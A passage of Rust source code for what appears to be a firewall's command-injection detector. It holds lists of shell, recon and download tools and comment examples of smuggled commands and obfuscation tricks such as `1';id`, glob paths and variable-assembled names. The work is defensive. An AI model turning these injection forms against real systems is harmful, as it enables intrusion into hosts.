//! Command injection by structure (signature 932300): a value is an
//! injection when, read by a shell ([`super::shell_tokens`] undoes quotes,
//! escapes, empty variables, `$IFS`, braces and carets), a separator is
//! followed by a command of a known family.
//!
//! How sure a separator and a command word make it:
//!
//! ```text
//! separator          command           word             obfuscated word
//! ; | || && ` $(     always            with arguments*  always
//! newline & (        with arguments*,  with arguments*  always
//!                    or alone
//! start of value     -                 -                with arguments* or a command
//! ```
//!
//! (*) arguments that look like a shell's: an option (`-la`), a path
//! (`/etc/passwd`, `~/x`, `./x`), a number, a variable, a redirection, a
//! second command. A command is a name no prose uses (`whoami`, `wget`,
//! `powershell`); a word is a command name that is also a word of text
//! (`cat`, `sleep`, `type`, `more`). The word in command position may be
//! a path (`/bin/cat`) or a glob (`/???/c?t`), matched against the names;
//! both count as obfuscated. Variable assignments (`a=1`) before it are
//! skipped, as a shell does.

use super::engine::ByteSet;
use super::shell_tokens::{Lexer, Strength, Token, WordShape, MAX_WORD};

/// What a command name is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// A name no prose uses.
    Command,
    /// A command name that is also an ordinary word.
    Word,
}

/// Names no prose uses (sorted: looked up by binary search): Unix recon, fetching, shells, interpreters, file
/// changes, encoders; Windows `cmd` and `PowerShell` tools.
#[rustfmt::skip]
const COMMANDS: &[&str] = &[
    "7z", "apt-get", "aptitude", "aria2c", "arp", "base32", "base64", "bash", "bcdedit",
    "bitsadmin", "bsdtar", "busybox", "bzcat", "bzip2", "cacls", "certreq", "certutil", "chattr",
    "chgrp", "chmod", "chown", "chpasswd", "chroot", "chsh", "cmd", "cmdkey", "cmstp", "conhost",
    "cp", "cpulimit", "crictl", "crontab", "cscli", "cscript", "csh", "curl", "dash", "diskpart",
    "dism", "dmesg", "dmidecode", "doas", "dpkg", "driverquery", "dsquery", "egrep", "env",
    "esentutl", "fgrep", "findstr", "forfiles", "fsutil", "gcc", "gci", "gcm", "getenforce",
    "getent", "getfacl", "gpg", "gpresult", "groupadd", "gunzip", "gwmi", "gzip", "hexdump",
    "hostname", "hostnamectl", "htop", "icacls", "icm", "id", "iex", "ifconfig", "ifdown", "ifup",
    "insmod", "installutil", "invoke-expression", "invoke-webrequest", "ionice", "ipconfig",
    "iptables", "irb", "irm", "iwconfig", "iwmi", "iwr", "jjs", "journalctl", "jrunscript",
    "killall", "knife", "ksh", "lastb", "lastlog", "lastlogin", "ldd", "ln", "logname", "ls",
    "lsattr", "lsb_release", "lsblk", "lscpu", "lsmod", "lsof", "lspci", "lsusb", "ltrace",
    "lwp-download", "lwp-request", "makecab", "mawk", "md5sum", "mkdir", "mkfifo", "mklink",
    "mknod", "modprobe", "msbuild", "mshta", "msiexec", "mv", "nawk", "nbtstat", "nc", "ncat",
    "net1", "netcat", "netsh", "netstat", "nl", "nltest", "nmap", "nohup", "nproc", "nsenter",
    "nslookup", "objdump", "odbcconf", "openssl", "pacman", "passwd", "pathping", "pkexec",
    "pkill", "powershell", "printenv", "ps", "pwd", "pwsh", "qwinsta", "readelf", "readlink",
    "realpath", "regasm", "regsvcs", "regsvr32", "rlogin", "rlwrap", "rm", "rmdir", "rmmod",
    "robocopy", "rsh", "rsync", "runc", "rundll32", "sajb", "saps", "schtasks", "scp", "sestatus",
    "setenforce", "setfacl", "setsid", "setx", "sh", "sha1sum", "sha256sum", "shred", "socat",
    "spps", "ssh-keygen", "sshpass", "start-process", "stdbuf", "strace", "sudo", "systemctl",
    "systeminfo", "tac", "takeown", "taskkill", "tasklist", "taskset", "tclsh", "tcpdump", "tcsh",
    "tftp", "timedatectl", "tmux", "tracepath", "traceroute", "tracert", "uname", "unbuffer",
    "unshare", "unzip", "uptime", "useradd", "userdel", "usermod", "uudecode", "uuencode", "virsh",
    "visudo", "vssadmin", "wbadmin", "wevtutil", "wget", "whereis", "whoami", "whois", "wmic",
    "wscript", "wsl", "wusa", "xargs", "xcopy", "xterm", "xxd", "xz", "zcat", "zgrep", "zless",
    "zsh", "zypper",
];

/// Prefixes of tool families whose every member is a command
/// (`ansible-playbook`, `chef-client`, `aa-disable`).
const COMMAND_PREFIXES: &[&str] = &["ansible", "chef-", "aa-"];

/// Command names (sorted) that are also words of text, or names of languages and
/// tools that technical prose mentions (`cat`, `python`, `ssh`).
#[rustfmt::skip]
const WORDS: &[&str] = &[
    "alias", "apt", "assoc", "attrib", "awk", "c89", "c99", "call", "cat", "command", "copy",
    "cut", "dd", "del", "dig", "dir", "docker", "echo", "eval", "exec", "expand", "export", "file",
    "find", "finger", "fold", "free", "ftp", "gawk", "gdb", "gem", "git", "grep", "head",
    "history", "host", "install", "ip", "java", "kill", "kubectl", "last", "less", "lua", "mail",
    "make", "man", "more", "mount", "move", "net", "nice", "node", "nodejs", "npm", "od", "paste",
    "perl", "php", "ping", "pip", "python", "python2", "python3", "reg", "ren", "rev", "ruby",
    "script", "sed", "service", "set", "sftp", "sleep", "sort", "source", "split", "ssh", "start",
    "stat", "strings", "su", "tail", "tar", "tee", "telnet", "time", "timeout", "top", "touch",
    "type", "uniq", "users", "vi", "vim", "wall", "watch", "wc", "who", "write", "yum", "zip",
];

/// Whether `text` (decoded, lower case) reads as an injected command.
///
/// A command starts a value or follows a separator: the value is read
/// from its start and from each separator on, a fresh shell each time
/// (so a quote opened before the separator does not hide it: `1';id`
/// reads `;id`, as when the value is pasted inside a quoted argument).
/// Only the words in command position are read, so prose with no
/// separator costs one pass over its bytes and the reading of one word.
pub(crate) fn is_command_injection(text: &str) -> bool {
    could_be_command_injection(text) && reads_as_command_any_way(text)
}

/// [`is_command_injection`] of a `text` whose bytes the caller read
/// already (the engine's shape of each value): whether it holds a byte
/// of [`NEEDED`] (`reads`) and one of [`OPENING`] (`opens`).
pub(crate) fn is_command_injection_given(text: &str, reads: bool, opens: bool) -> bool {
    // Every byte of OPENING is one of NEEDED: one anywhere is one after
    // the first byte a shell reads, which is what the gate looks for.
    reads && (opens || first_word_hides(text)) && reads_as_command_any_way(text)
}

/// Whether `text` runs a command from its start or after a separator, as
/// it is or with its braces expanded: the detector past its gate.
fn reads_as_command_any_way(text: &str) -> bool {
    reads_as_command(text, Strength::Start)
        || expand_braces(text).is_some_and(|words| reads_as_command(&words, Strength::Weak))
}

/// The most brace groups [`expand_braces`] expands, and the longest text
/// it writes.
const MAX_GROUPS: usize = 8;
const MAX_EXPANDED: usize = 4096;

/// `text` with each brace expansion (`{a,b}`, `c{a,oun}t`, `{,id}`)
/// written out as a shell does (`a b`, `cat count`, `id`), or `None` when
/// it has none. A value opening with one reads as a command line (a
/// shell's syntax), so its first word is read as after a weak separator.
fn expand_braces(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let mut out = String::new();
    let mut done = 0;
    let mut groups = 0;
    let mut search = 0;
    while let Some(open) = memchr::memchr(b'{', &bytes[search..]).map(|i| i + search) {
        let Some(close) = bytes[open..]
            .iter()
            .position(|&b| b == b'}')
            .map(|i| i + open)
        else {
            break;
        };
        let inner = &text[open + 1..close];
        search = close + 1;
        if !inner.contains(',') || inner.bytes().any(|b| b.is_ascii_whitespace() || b == b'{') {
            continue;
        }
        let start = text[..open]
            .rfind(|c: char| c.is_ascii_whitespace() || ";|&`(".contains(c))
            .map_or(0, |i| i + 1)
            .max(done);
        let end = text[close + 1..]
            .find(|c: char| c.is_ascii_whitespace() || ";|&`)".contains(c))
            .map_or(text.len(), |i| i + close + 1);
        out.push_str(&text[done..start]);
        let (prefix, suffix) = (&text[start..open], &text[close + 1..end]);
        // A group with an empty item, glued to letters or holding more
        // than words (`{,id}`, `c{a,oun}t`, `{dig,x.example}`) is a
        // shell's, not a list written in text (`{cat,dog}`): its words are
        // marked as the shell's work (a backslash, as in `\id`).
        let shell_only = !prefix.is_empty()
            || !suffix.is_empty()
            || inner.split(',').any(str::is_empty)
            || !inner.bytes().all(|b| b.is_ascii_lowercase() || b == b',');
        let mark = if shell_only { "\\" } else { "" };
        let words: Vec<String> = inner
            .split(',')
            .filter(|item| !(item.is_empty() && prefix.is_empty() && suffix.is_empty()))
            .map(|item| format!("{mark}{prefix}{item}{suffix}"))
            .filter(|w| !w.is_empty())
            .collect();
        out.push_str(&words.join(" "));
        done = end;
        search = search.max(end);
        groups += 1;
        if groups == MAX_GROUPS || out.len() > MAX_EXPANDED {
            break;
        }
    }
    (groups > 0).then(|| {
        out.push_str(&text[done..]);
        out
    })
}

/// Whether `text` runs a command at its start (read as after `start`) or
/// after one of its separators.
fn reads_as_command(text: &str, start: Strength) -> bool {
    // At the start of a value only an obfuscated word is a command (or,
    // after a brace expansion, any word): a first word with nothing a
    // shell would undo is not read.
    if (start != Strength::Start || first_word_hides(text))
        && !runs_nothing_plainly(text)
        && command_at(text, text, Some(start))
    {
        return true;
    }
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(i) = first_marked(&bytes[from..], &SEPARATORS_TABLE).map(|i| i + from) {
        from = i + 1;
        // `&&`, `||` and `$(` are read from their first byte.
        let b = bytes[i];
        let start = if b == b'(' && i > 0 && bytes[i - 1] == b'$' {
            i - 1
        } else {
            i
        };
        let continues = start == i && i > 0 && bytes[i - 1] == b && b != b'\n';
        if !continues
            && !runs_nothing_plainly(&text[start..])
            && command_at(&text[start..], text, None)
        {
            return true;
        }
    }
    false
}

/// The bytes with which a word hides a command name (quotes, escapes,
/// carets, variables, braces, globs, `%COMSPEC%`), and `/` (a binary's
/// path).
const HIDING: ByteSet = ByteSet::of(b"'\"\\^${}?*[%/`");

/// The bytes that open a separator.
const SEPARATORS: ByteSet = ByteSet::of(b";|&`\n\r({");
/// [`SEPARATORS`] as a table indexed by byte.
const SEPARATORS_TABLE: [bool; 256] = SEPARATORS.table();

/// Bytes the lexer reads one by one as separators or blanks, never
/// anything else (no `$(`, brace, redirection): what may stand before a
/// plain command word ([`runs_nothing_plainly`]).
const PLAIN_LEAD: ByteSet = ByteSet::of(b";|&`\n\r() \t");

/// Bytes the lexer keeps as they are in a word outside quotes, whatever
/// stands around them: no quote, escape, expansion, brace, glob, `=` (an
/// assignment), `,` or `+`.
const PLAIN_WORD: ByteSet = ByteSet::of(b"abcdefghijklmnopqrstuvwxyz0123456789._-/:");

/// Bytes that end a word, whatever stands around them: blanks,
/// separators, redirections.
const PLAIN_END: ByteSet = ByteSet::of(b" \t;|&`\n\r()<>");

/// Whether the command line at the start of `text` plainly runs nothing,
/// so that [`command_at`] is false whatever position it is read from,
/// without the lexer: separators and blanks ([`PLAIN_LEAD`]), then either
/// the end, or a word of plain bytes ([`PLAIN_WORD`], a letter first)
/// ended by [`PLAIN_END`] or the end that names no command. Such a word is
/// read as it is, unobfuscated, and is no assignment: the lexer's reading
/// would stop at it. False when the lexer must read.
fn runs_nothing_plainly(text: &str) -> bool {
    let bytes = text.as_bytes();
    let start = bytes
        .iter()
        .position(|&b| !PLAIN_LEAD_TABLE[usize::from(b)])
        .unwrap_or(bytes.len());
    let Some(&first) = bytes.get(start) else {
        return true;
    };
    if !first.is_ascii_lowercase() {
        return false;
    }
    let end = bytes[start..]
        .iter()
        .position(|&b| !PLAIN_WORD_TABLE[usize::from(b)])
        .map_or(bytes.len(), |i| i + start);
    if bytes.get(end).is_some_and(|&b| !PLAIN_END.contains(b)) {
        return false;
    }
    let word = &text[start..end];
    if word.len() > MAX_WORD {
        // The lexer keeps no more: a truncated word is no command.
        return true;
    }
    plain_word_names_nothing(word) || command_of(word, WordShape::default()).is_none()
}

/// [`PLAIN_LEAD`] as a table indexed by byte.
const PLAIN_LEAD_TABLE: [bool; 256] = PLAIN_LEAD.table();
/// [`PLAIN_WORD`] as a table indexed by byte.
const PLAIN_WORD_TABLE: [bool; 256] = PLAIN_WORD.table();

/// Whether [`command_of`] finds no command in the plain `word` (of
/// [`PLAIN_WORD`] bytes, a letter first), read more cheaply: such a word is
/// no path to a directory of binaries (those open with `/`), so its name
/// is the word, less an `.exe`, which must be name bytes opening as a
/// listed name does. False when unsure.
fn plain_word_names_nothing(word: &str) -> bool {
    let name = word.strip_suffix(".exe").unwrap_or(word);
    name.bytes().any(|b| name_class(b).is_none()) || !may_name_a_command(name)
}

/// The most variable assignments skipped before a command (`a=1 b=2 id`).
const MAX_ASSIGNMENTS: usize = 8;

/// Whether the command line at the start of `text` runs a command:
/// separators, then assignments, then a command word and what follows it.
/// `position` says whether the first word is in command position already
/// (the start of the value). `value` is the whole value `text` is part of
/// (where the variables a command word is built from are assigned).
fn command_at(text: &str, value: &str, mut position: Option<Strength>) -> bool {
    let mut lexer = Lexer::new(text);
    let mut assignments = 0;
    while let Some(token) = lexer.next_token() {
        let shape = match token {
            Token::Separator(strength) => {
                position = Some(position.map_or(strength, |p| p.max(strength)));
                continue;
            }
            Token::Redirect => return false,
            Token::Word(shape) => shape,
        };
        let Some(strength) = position else {
            return false;
        };
        let word = lexer.word();
        if lexer.has_substring() {
            // `%comspec:~0,3%`: a command name cut out of a variable.
            let after = lexer.next_token();
            return injects(&mut lexer, after, strength, Kind::Command, true);
        }
        if word.is_empty() && lexer.variables().next().is_some() {
            // `$a$b`: a command name assembled from variables, run only
            // when the value assigns them (`a=c;b=at;$a$b`).
            return lexer.variables().all(|name| assigns(value, name));
        }
        if word.is_empty() || is_assignment(word) {
            assignments += 1;
            if assignments > MAX_ASSIGNMENTS {
                return false;
            }
            continue;
        }
        // A bare glob opening a value is a wildcard search (`py*`).
        if strength == Strength::Start && shape.glob && !word.starts_with('/') {
            return false;
        }
        let Some((kind, obfuscated)) = command_of(word, shape) else {
            return false;
        };
        let after = lexer.next_token();
        return injects(&mut lexer, after, strength, kind, obfuscated);
    }
    false
}

/// Whether a command `kind` after a separator of `strength` is an
/// injection, given the token `after` it (a word's text in `lexer`).
fn injects(
    lexer: &mut Lexer<'_>,
    after: Option<Token>,
    strength: Strength,
    kind: Kind,
    obfuscated: bool,
) -> bool {
    let argued = match after {
        None => Follow::End,
        Some(Token::Separator(_)) => Follow::Separator,
        Some(Token::Redirect) => Follow::Shell,
        Some(Token::Word(shape)) => argument(lexer.word(), shape),
    };
    match (strength, kind) {
        (Strength::Strong, Kind::Command) => true,
        (Strength::Strong | Strength::Weak, _) if obfuscated => true,
        (Strength::Strong, Kind::Word) => {
            matches!(argued, Follow::Shell | Follow::Number)
                || (argued == Follow::Text && redirects_to_a_file(lexer))
        }
        (Strength::Weak, Kind::Word) => argued == Follow::Shell,
        (Strength::Weak, Kind::Command) => argued != Follow::Text,
        (Strength::Start, _) => obfuscated && (kind == Kind::Command || argued == Follow::Shell),
    }
}

/// The most words of a command read for its redirection.
const MAX_WORDS_BEFORE_REDIRECT: usize = 6;

/// Whether the command whose arguments `lexer` is reading redirects its
/// output to, or its input from, a path (`echo x > /var/www/s.php`),
/// within [`MAX_WORDS_BEFORE_REDIRECT`] words.
fn redirects_to_a_file(lexer: &mut Lexer<'_>) -> bool {
    for _ in 0..MAX_WORDS_BEFORE_REDIRECT {
        match lexer.next_token() {
            Some(Token::Word(_)) => {}
            Some(Token::Redirect) => {
                return matches!(lexer.next_token(), Some(Token::Word(shape))
                    if argument(lexer.word(), shape) == Follow::Shell);
            }
            Some(Token::Separator(_)) | None => return false,
        }
    }
    false
}

/// What follows a command word.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Follow {
    /// The end of the value.
    End,
    /// Another separator.
    Separator,
    /// An argument as a shell takes one: an option, a path, a variable...
    Shell,
    /// A number (`sleep 5`): an argument, or a word of text.
    Number,
    /// A word of text.
    Text,
}

/// What an argument `word` looks like.
fn argument(word: &str, shape: WordShape) -> Follow {
    let first = word.bytes().next().unwrap_or(b' ');
    if first.is_ascii_digit() && !word.contains('/') {
        return Follow::Number;
    }
    let shell = matches!(first, b'-' | b'/' | b'~' | b'.' | b'$' | b'+')
        || word.contains('/')
        || shape.obfuscated
        || shape.glob
        || command_of(word, shape).is_some_and(|(kind, _)| kind == Kind::Command);
    if shell {
        Follow::Shell
    } else {
        Follow::Text
    }
}

/// The kind of command `word` names, and whether it was written the way
/// an attacker hides one (quoted apart, a path, a glob).
fn command_of(word: &str, shape: WordShape) -> Option<(Kind, bool)> {
    if shape.truncated || word.is_empty() {
        return None;
    }
    let (name, path) = match word.rfind('/') {
        Some(slash) if is_binary_dir(&word[..=slash], shape.glob) => (&word[slash + 1..], true),
        _ => (word, false),
    };
    let name = name.strip_suffix(".exe").unwrap_or(name);
    // Command names are made of these bytes only: anything else is no
    // command, without a look-up.
    let name_bytes = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'_';
    if !shape.glob && !name.bytes().all(name_bytes) {
        return None;
    }
    let obfuscated = shape.obfuscated || path;
    if shape.glob {
        let literal = name.bytes().filter(u8::is_ascii_alphanumeric).count();
        if literal == 0 || name.len() < 2 {
            return None;
        }
        return kind_of_glob(name).map(|kind| (kind, true));
    }
    kind_of(name).map(|kind| (kind, obfuscated))
}

/// Whether `dir` (ending in `/`) is where commands live (`/bin/`,
/// `/usr/local/sbin/`...) or, in a glob, could be (`/???/`).
fn is_binary_dir(dir: &str, glob: bool) -> bool {
    matches!(
        dir,
        "/bin/" | "/sbin/" | "/usr/bin/" | "/usr/sbin/" | "/usr/local/bin/" | "/usr/local/sbin/"
    ) || (glob && dir.starts_with('/') && dir.bytes().any(|b| matches!(b, b'?' | b'*' | b'[')))
}

fn kind_of(name: &str) -> Option<Kind> {
    if !may_name_a_command(name) {
        return None;
    }
    kind_of_listed(name)
}

/// [`kind_of`] past its gate: the look-ups in the lists.
fn kind_of_listed(name: &str) -> Option<Kind> {
    if COMMANDS.binary_search(&name).is_ok() || COMMAND_PREFIXES.iter().any(|p| name.starts_with(p))
    {
        Some(Kind::Command)
    } else if WORDS.binary_search(&name).is_ok() {
        Some(Kind::Word)
    } else {
        cmdlet_kind(name)
    }
}

/// The classes of the bytes of command names (lower-case letters,
/// digits, `-`, `_`), and a class for the end of a name: the indices of
/// [`NAME_TRIPLES`].
const NAME_CLASSES: usize = 38;
const NAME_END: usize = NAME_CLASSES;

/// The class of the name byte `b`, `None` for a byte no name holds.
const fn name_class(b: u8) -> Option<usize> {
    match b {
        b'a'..=b'z' => Some((b - b'a') as usize),
        b'0'..=b'9' => Some(26 + (b - b'0') as usize),
        b'-' => Some(36),
        b'_' => Some(37),
        _ => None,
    }
}

/// How every name [`kind_of`] finds opens: bit `class(third)` (or
/// [`NAME_END`] for a name of two bytes) of entry `[class(first)]
/// [class(second)]`. The commands and words are whole names; the
/// families' prefixes and the cmdlets' verbs open longer names (a verb of
/// two bytes would allow any third byte).
const NAME_TRIPLES: [[u64; NAME_CLASSES]; NAME_CLASSES] = {
    let mut triples = [[0u64; NAME_CLASSES]; NAME_CLASSES];
    let lists: [(&[&str], bool); 5] = [
        (COMMANDS, true),
        (WORDS, true),
        (COMMAND_PREFIXES, false),
        (CMDLET_VERBS, false),
        (CMDLET_ONLY_VERBS, false),
    ];
    let mut l = 0;
    while l < lists.len() {
        let (names, whole) = lists[l];
        let mut n = 0;
        while n < names.len() {
            // Every listed name is two name bytes long at least: a
            // shorter one fails the build here.
            let name = names[n].as_bytes();
            let (Some(first), Some(second)) = (name_class(name[0]), name_class(name[1])) else {
                panic!("a listed name opens with a byte no name holds");
            };
            let third = if name.len() > 2 {
                match name_class(name[2]) {
                    Some(class) => 1u64 << class,
                    None => panic!("a listed name holds a byte no name holds"),
                }
            } else if whole {
                1u64 << NAME_END
            } else {
                u64::MAX
            };
            triples[first][second] |= third;
            n += 1;
        }
        l += 1;
    }
    triples
};

/// Whether `name` opens as a name [`kind_of`] finds does (its first three
/// bytes, or two and its end): every name, prefix and verb of its lists
/// is two bytes long at least, and a cmdlet's name opens with its verb.
fn may_name_a_command(name: &str) -> bool {
    let class = |at: usize| name.as_bytes().get(at).map(|&b| name_class(b));
    let (Some(Some(first)), Some(Some(second))) = (class(0), class(1)) else {
        return false;
    };
    let third = match class(2) {
        None => NAME_END,
        Some(Some(third)) => third,
        Some(None) => return false,
    };
    NAME_TRIPLES[first][second] & (1 << third) != 0
}

/// The kind of a `PowerShell` cmdlet name (Verb-Noun, an approved verb):
/// a command when its verb or its noun is one no prose uses
/// (`invoke-anything`, `get-wmiobject`), a word otherwise
/// (`get-together` reads as one).
fn cmdlet_kind(name: &str) -> Option<Kind> {
    let (verb, noun) = name.split_once('-')?;
    if noun.len() < 2 || !noun.bytes().all(|b| b.is_ascii_lowercase()) {
        return None;
    }
    if CMDLET_ONLY_VERBS.binary_search(&verb).is_ok()
        || (CMDLET_VERBS.binary_search(&verb).is_ok() && CMDLET_NOUNS.binary_search(&noun).is_ok())
    {
        Some(Kind::Command)
    } else if CMDLET_VERBS.binary_search(&verb).is_ok() && noun.len() >= 3 {
        Some(Kind::Word)
    } else {
        None
    }
}

/// `PowerShell`'s approved verbs (sorted), `Get-Verb`'s list.
#[rustfmt::skip]
const CMDLET_VERBS: &[&str] = &[
    "add", "approve", "assert", "backup", "block", "build", "checkpoint", "clear", "close",
    "compare", "complete", "compress", "confirm", "connect", "convert", "convertfrom",
    "convertto", "copy", "debug", "deny", "deploy", "disable", "disconnect", "dismount", "edit",
    "enable", "enter", "exit", "expand", "export", "find", "format", "get", "grant", "group",
    "hide", "import", "initialize", "install", "invoke", "join", "limit", "lock", "measure",
    "merge", "mount", "move", "new", "open", "optimize", "out", "ping", "pop", "protect",
    "publish", "push", "read", "receive", "redo", "register", "remove", "rename", "repair",
    "request", "reset", "resize", "resolve", "restart", "restore", "resume", "revoke", "save",
    "search", "select", "send", "set", "show", "skip", "split", "start", "step", "stop",
    "submit", "suspend", "switch", "sync", "test", "trace", "unblock", "undo", "uninstall",
    "unlock", "unprotect", "unpublish", "unregister", "update", "use", "wait", "watch", "write",
];

/// Approved verbs no prose puts before a hyphen (sorted).
#[rustfmt::skip]
const CMDLET_ONLY_VERBS: &[&str] = &[
    "checkpoint", "convertfrom", "convertto", "disable", "dismount", "enable", "initialize",
    "invoke", "remove", "resolve", "suspend", "unblock", "uninstall", "unprotect", "unpublish",
    "unregister",
];

/// The nouns of the cmdlets that read, change or run things on a host
/// (sorted): processes, services, files, users, policies, the network.
#[rustfmt::skip]
const CMDLET_NOUNS: &[&str] = &[
    "acl", "adcomputer", "adgroup", "adgroupmember", "aduser", "alias", "bitstransfer",
    "childitem", "ciminstance", "clipboard", "command", "computerinfo", "content", "credential",
    "date", "dnsclientcache", "eventlog", "executionpolicy", "expression", "file", "filehash",
    "hotfix", "item", "itemproperty", "job", "localgroup", "localgroupmember", "localuser",
    "location", "module", "mppreference", "netadapter", "netfirewallrule", "netipaddress",
    "nettcpconnection", "object", "process", "psdrive", "psreadlineoption", "pssession",
    "restmethod", "scheduledtask", "service", "smbshare", "variable", "webrequest", "winevent",
    "wmimethod", "wmiobject",
];

/// The kind of the first command name the glob `pattern` matches.
fn kind_of_glob(pattern: &str) -> Option<Kind> {
    let matches = |names: &[&str]| {
        names
            .iter()
            .any(|n| glob_matches(pattern.as_bytes(), n.as_bytes()))
    };
    if matches(COMMANDS) {
        Some(Kind::Command)
    } else if matches(WORDS) {
        Some(Kind::Word)
    } else {
        None
    }
}

/// Whether the shell glob `pattern` (`?`, `*`, `[...]` read as any one
/// character) matches all of `name`: the usual star-backtracking walk,
/// linear in their lengths for one star and never exponential.
fn glob_matches(pattern: &[u8], name: &[u8]) -> bool {
    let pattern = one_char_classes(pattern);
    let (mut p, mut n) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while n < name.len() {
        match pattern.get(p) {
            Some(b'*') => {
                star = Some((p, n));
                p += 1;
            }
            Some(&c) if c == b'?' || c == name[n] => {
                p += 1;
                n += 1;
            }
            _ => match star {
                Some((sp, sn)) => {
                    p = sp + 1;
                    n = sn + 1;
                    star = Some((sp, sn + 1));
                }
                None => return false,
            },
        }
    }
    pattern[p..].iter().all(|&c| c == b'*')
}

/// `pattern` with each `[...]` class turned into `?`.
fn one_char_classes(pattern: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(pattern.len());
    let mut i = 0;
    while i < pattern.len() {
        if pattern[i] == b'[' {
            if let Some(close) = pattern[i..].iter().position(|&b| b == b']') {
                out.push(b'?');
                i += close + 1;
                continue;
            }
        }
        out.push(pattern[i]);
        i += 1;
    }
    out
}

/// Whether `value` assigns the variable `name` (`name=` at the start of a
/// word).
fn assigns(value: &str, name: &str) -> bool {
    let bytes = value.as_bytes();
    value.match_indices(name).any(|(at, _)| {
        let starts_word = at == 0
            || matches!(
                bytes[at - 1],
                b' ' | b'\t' | b';' | b'&' | b'|' | b'\n' | b'`' | b'('
            );
        starts_word && bytes.get(at + name.len()) == Some(&b'=')
    })
}

/// Whether `word` is a variable assignment (`a=1`), which a shell runs
/// past to the command.
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !name.as_bytes()[0].is_ascii_digit()
    })
}

/// Whether `text` holds what a command injection needs, by the grammar
/// [`is_command_injection`] reads: a separator (`;` `|` `&` a backtick, a
/// newline, `(`, which `$(` opens with) after which a command runs, a
/// brace group a shell expands, or, at the start of the value, a first
/// word hiding a command (a quote, escape, caret, variable, glob, path)
/// that a shell would undo. Prose has none of them but apostrophes past its
/// first word: it costs a vectorised search for six bytes and a look at
/// its first word, no reading.
pub(crate) fn could_be_command_injection(text: &str) -> bool {
    // The grammar asks for a byte a shell reads, and then for a separator
    // or brace anywhere, or a first word hiding a command. Before the
    // first byte a shell reads there is no separator either: one pass
    // finds it, and only a value holding one is looked at again.
    let bytes = text.as_bytes();
    let Some(first) = first_marked(bytes, &NEEDED_TABLE) else {
        return false;
    };
    let rest = &bytes[first..];
    if rest.len() >= VECTOR_SEARCH_FROM {
        // Long prose: three vectorised searches beat a byte loop.
        memchr::memchr3(b';', b'|', b'&', rest).is_some()
            || memchr::memchr3(b'`', b'\n', b'\r', rest).is_some()
            || memchr::memchr2(b'(', b'{', rest).is_some()
            || first_word_hides(text)
    } else {
        first_marked(rest, &OPENING_TABLE).is_some() || first_word_hides(text)
    }
}

/// From how many bytes [`could_be_command_injection`] searches a value
/// with `memchr` rather than a table: below, the searches' set-up costs
/// more than the loop.
const VECTOR_SEARCH_FROM: usize = 64;

/// The bytes that open a command or a brace expansion anywhere in a value.
const OPENING: ByteSet = ByteSet::of(b";|&`\n\r({");
/// [`OPENING`] as a table indexed by byte (also the engine's, for its
/// shape of a value).
pub(crate) const OPENING_TABLE: [bool; 256] = OPENING.table();
/// The bytes a shell reads: [`OPENING`] and those it undoes (a quote,
/// escape, caret, variable).
const NEEDED: ByteSet = ByteSet::of(b";|&`\n\r('\"\\^${");
/// [`NEEDED`] as a table indexed by byte (also the engine's, for its
/// shape of a value: a value with none of them is no injection).
pub(crate) const NEEDED_TABLE: [bool; 256] = NEEDED.table();

/// Where the first byte `table` marks is in `bytes`: eight bytes a step,
/// one branch each, then the byte within the step.
fn first_marked(bytes: &[u8], table: &[bool; 256]) -> Option<usize> {
    let marked = |b: &u8| table[usize::from(*b)];
    let mut chunks = bytes.chunks_exact(8);
    let mut at = 0;
    for chunk in &mut chunks {
        if chunk.iter().fold(false, |hit, b| hit | marked(b)) {
            return chunk.iter().position(marked).map(|i| at + i);
        }
        at += chunk.len();
    }
    chunks.remainder().iter().position(marked).map(|i| at + i)
}

/// Whether the first word of `text` holds a byte with which a word hides
/// a command name ([`HIDING`]): at the start of a value, only such a word
/// is read as a command.
fn first_word_hides(text: &str) -> bool {
    text.bytes()
        .take_while(|&b| {
            !matches!(
                b,
                b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'\r' | b'(' | b'<' | b'>'
            )
        })
        .any(|b| HIDING.contains(b))
}

/// The gate as it was first written, the tests' reference: a byte a
/// shell reads, and then a separator or brace, or a hiding first word.
#[cfg(test)]
fn could_be_command_injection_by_searches(text: &str) -> bool {
    if !NEEDED.found_in(text) {
        return false;
    }
    let bytes = text.as_bytes();
    memchr::memchr3(b';', b'|', b'&', bytes).is_some()
        || memchr::memchr3(b'`', b'\n', b'\r', bytes).is_some()
        || memchr::memchr2(b'(', b'{', bytes).is_some()
        || first_word_hides(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::sql_injection::generated;
    use super::{
        could_be_command_injection, could_be_command_injection_by_searches, is_command_injection,
        is_command_injection_given, NEEDED, OPENING,
    };
    use crate::waf::shell_tokens::Strength;

    /// Words of prose, some with a byte a shell undoes or a hiding word.
    const PROSE: &[&str] = &[
        " ", "  ", "\t", "please", "ann", "o'brien", "you'd", "id", "/bin/cat", "c?t", "%x%",
        "a=1", "\"x\"", "<", ">", ",", ".", "é", "x",
    ];

    /// One piece of shell syntax: a separator, a brace, a byte a shell
    /// undoes.
    const SYNTAX: &[&str] = &[
        "\"", "'", "\\", "^", "$", "${ifs}", "{a,b}", "{", "}", ";", "|", "&", "`", "\n", "\r",
        "(", "$(",
    ];

    /// The generators' payloads (every family), lower case, alone and
    /// after prose, with enough prose to pass the vectorised length.
    fn generated_values() -> Vec<String> {
        let prose = "please select the plan you'd recommend for a small team, thanks ";
        generated::attacks(21, 150)
            .into_iter()
            .flat_map(|attack| {
                let payload = attack.payload.to_lowercase();
                [
                    format!("{prose}{payload}"),
                    format!("{payload} {prose}"),
                    payload,
                ]
            })
            .collect()
    }

    #[test]
    fn the_one_pass_gate_decides_as_the_searches_on_generated_attacks() {
        let values = generated_values();
        for text in &values {
            assert_eq!(
                could_be_command_injection(text),
                could_be_command_injection_by_searches(text),
                "{text:?}"
            );
        }
        assert!(values
            .iter()
            .any(|v| v.len() >= super::VECTOR_SEARCH_FROM && could_be_command_injection(v)));
        assert!(values
            .iter()
